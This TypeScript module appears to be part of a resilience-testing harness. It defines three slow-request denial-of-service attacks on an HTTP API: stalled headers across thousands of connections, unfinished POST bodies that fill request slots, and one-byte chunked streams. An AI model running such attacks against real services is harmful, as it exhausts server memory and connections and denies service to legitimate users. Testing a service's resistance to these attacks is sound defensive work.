import type { Attack } from './attack.ts';
import { sendOnEach, withSockets } from './open-sockets.ts';
import { bearer, request } from './requests.ts';

/** As many headers as the size limit allows. */
const headers = `GET / HTTP/1.1\r\n${'a:\r\n'.repeat(3_900)}`;

/** Sends 3,900 headers without an end on each of 4,000 connections, without a key. */
export const stallHeaders: Attack = (target) =>
  withSockets(target, async ({ open, wait, untilOver, isOver }) => {
    // In small steps, because the attack is on the memory, not on the time to accept connections.
    for (let opened = 0; opened < 4_000 && !isOver(); opened += 20) {
      await sendOnEach(open, 20, headers);
      await wait(30);
    }
    await untilOver();
  });

const post = (apiKey: string, header: string): string =>
  request('POST /v1/pets', [bearer(apiKey), 'Content-Type: application/json', header]);

/** Begins 1,100 bodies with one key, more than the default number of slots, and sends none of their bytes. */
export const stallBodies: Attack = (target) =>
  withSockets(target, async ({ open, wait, untilOver }) => {
    const head = post(target.apiKey, 'Content-Length: 100');
    // In small steps, because the attack is on the slots, not on the time to accept connections.
    for (let opened = 0; opened < 1_100; opened += 50) {
      await sendOnEach(open, 50, head);
      await wait(50);
    }
    await untilOver();
  });

/** Sends 100 bodies at once, each in 60,000 chunks of one byte, without an end. */
export const sendTinyChunks: Attack = (target) =>
  withSockets(target, async ({ open, untilOver }) => {
    const bytes = post(target.apiKey, 'Transfer-Encoding: chunked') + '1\r\n1\r\n'.repeat(60_000);
    await sendOnEach(open, 100, bytes);
    await untilOver();
  });
